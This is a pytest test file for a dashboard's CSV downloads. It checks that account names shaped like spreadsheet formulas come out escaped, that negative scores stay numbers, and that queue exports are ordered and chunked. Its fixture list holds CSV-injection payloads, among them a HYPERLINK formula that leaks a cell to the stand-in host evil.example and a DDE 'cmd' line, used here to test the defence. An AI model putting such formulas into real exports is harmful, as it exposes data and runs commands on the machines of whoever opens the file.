"""The dashboard's CSV downloads (SPEC §8): the accounts list and the queues, as a spreadsheet opens them.
A name from the CRM that a spreadsheet would run as a formula arrives as text; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

import duckdb
import pyarrow as pa
import pytest

from tests.serve.conftest import Demo, in_process
from whynow.serve import query
from whynow.serve.app import create_app
from whynow.serve.schemas import AccountFilter
from whynow.store import Store

if TYPE_CHECKING:
    from starlette.testclient import TestClient  # imported by in_process, as starlette 1 warns on import

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)
QUEUE_COLUMNS = [
    "rep",
    "rep_name",
    "queue",
    "queue_rank",
    "account_id",
    "name",
    "badge",
    "badge_label",
    "archetype",
    "motion",
    "play",
    "why",
    "badge_expires_on",
    "held_reason",
]


@dataclass(frozen=True)
class Formulas:
    store: Path
    named: dict[str, str]  # account id → its name, a formula
    negative: str  # the account with a fit of -5
    held: str  # the account held for capacity
    rep: str  # the rep whose queue holds `held`


@pytest.fixture(scope="module")
def formulas(demo: Demo, tmp_path_factory: pytest.TempPathFactory) -> Formulas:
    """The demo store where the first surfaced accounts of the last run are named like formulas, as a CRM
    can hold them; the first has a fit of -5, and the next surfaced one is held over its rep's capacity."""
    path = tmp_path_factory.mktemp("formulas") / "whynow.duckdb"
    path.write_bytes(demo.store.read_bytes())
    con = duckdb.connect(str(path))
    (as_of,) = con.execute("SELECT max(as_of) FROM runs").fetchone() or ()
    surfaced = con.execute(
        "SELECT account_id, route_to FROM account_status WHERE as_of = ? AND queue = 'surfaced' "
        "ORDER BY route_to, queue_rank LIMIT ?",
        [as_of, len(FORMULAS) + 1],
    ).fetchall()
    named = {account_id: name for (account_id, _), name in zip(surfaced, FORMULAS, strict=False)}
    for account_id, name in named.items():
        con.execute("UPDATE account_status SET name = ? WHERE as_of = ? AND account_id = ?", [name, as_of, account_id])
    negative = next(iter(named))
    con.execute("UPDATE account_status SET fit = -5 WHERE as_of = ? AND account_id = ?", [as_of, negative])
    held, rep = surfaced[-1]
    con.execute(
        "UPDATE account_status SET queue = 'held', queue_rank = NULL, held_reason = 'capacity' "
        "WHERE as_of = ? AND account_id = ?",
        [as_of, held],
    )
    con.close()
    return Formulas(path, named, negative, held, rep)


@pytest.fixture(scope="module")
def client(formulas: Formulas) -> TestClient:
    return in_process(create_app(Store(formulas.store)))


def _rows(text: str) -> dict[str, dict[str, str]]:
    return {row["account_id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


@pytest.mark.parametrize("path", ["/accounts.csv?queue=surfaced", "/queues.csv"])
def test_a_name_that_would_run_as_a_formula_is_text_in_the_csv(
    client: TestClient, formulas: Formulas, path: str
) -> None:
    response = client.get(path)
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = _rows(response.text)
    assert {account_id: rows[account_id]["name"] for account_id in formulas.named} == {
        account_id: f"'{name}" for account_id, name in formulas.named.items()
    }
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1' in response.text  # quoted, quotes doubled


def test_a_negative_fit_stays_a_number(client: TestClient, formulas: Formulas) -> None:
    response = client.get("/accounts.csv", params={"q": formulas.negative})
    (line,) = response.text.splitlines()[1:]
    assert ",-5," in line and "'-5" not in line
    assert _rows(response.text)[formulas.negative]["fit"] == "-5"


def test_the_accounts_csv_comes_in_a_chunk_per_batch(client: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    read = query.account_batches

    def in_hundreds(r: query.Reader, f: AccountFilter) -> pa.RecordBatchReader:
        batches = read(r, f)
        return pa.RecordBatchReader.from_batches(batches.schema, batches.read_all().to_batches(100))

    monkeypatch.setattr(query, "account_batches", in_hundreds)
    with client.stream("GET", "/accounts.csv") as response:
        chunks = list(response.iter_raw())
    assert len(chunks) == 1 + 3  # the header, then 300 accounts in batches of 100, as they are read
    assert sum(chunk.count(b"\n") for chunk in chunks) == 1 + 300


def test_the_queue_csv_lists_each_reps_surfaced_accounts_in_order_then_the_held(
    client: TestClient, formulas: Formulas
) -> None:
    response = client.get("/queues.csv", params={"rep": formulas.rep})
    as_of = client.get("/api/runs").json()["runs"][0]["as_of"]
    assert response.headers["content-disposition"] == f'attachment; filename="whynow-queue-{formulas.rep}-{as_of}.csv"'
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert list(rows[0]) == QUEUE_COLUMNS
    (queue,) = client.get("/api/queues", params={"rep": formulas.rep}).json()["queues"]
    assert [(r["queue"], r["queue_rank"], r["account_id"], r["why"]) for r in rows] == [
        *(("surfaced", str(a["queue_rank"]), a["account_id"], a["why"]) for a in queue["surfaced"]),
        ("held", "", formulas.held, queue["held"][0]["why"]),
    ]
    assert {(r["rep"], r["rep_name"]) for r in rows} == {(formulas.rep, queue["name"])}
    assert rows[-1]["held_reason"] == "capacity"


def test_the_queue_csv_of_every_rep_is_every_queued_account(client: TestClient, formulas: Formulas) -> None:
    rows = list(csv.DictReader(io.StringIO(client.get("/queues.csv").text, newline="")))
    queues = client.get("/api/queues", params={"per_page": 500}).json()["queues"]
    assert [r["account_id"] for r in rows] == [a["account_id"] for q in queues for a in (*q["surfaced"], *q["held"])]


@pytest.mark.parametrize(
    ("params", "message"),
    [({"rep": "nobody"}, "no rep nobody in the run of"), ({"as_of": "2001-01-01"}, "no run as of 2001-01-01")],
    ids=["rep", "as_of"],
)
def test_a_queue_csv_of_nothing_is_a_404_page(client: TestClient, params: dict[str, str], message: str) -> None:
    response = client.get("/queues.csv", params=params)
    assert response.status_code == 404 and message in response.text
    assert response.headers["content-type"].startswith("text/html")


def test_the_queues_page_links_to_its_csv(client: TestClient, formulas: Formulas) -> None:
    assert 'href="/queues.csv"' in client.get("/queues").text
    assert f'href="/queues.csv?rep={formulas.rep}"' in client.get("/queues", params={"rep": formulas.rep}).text
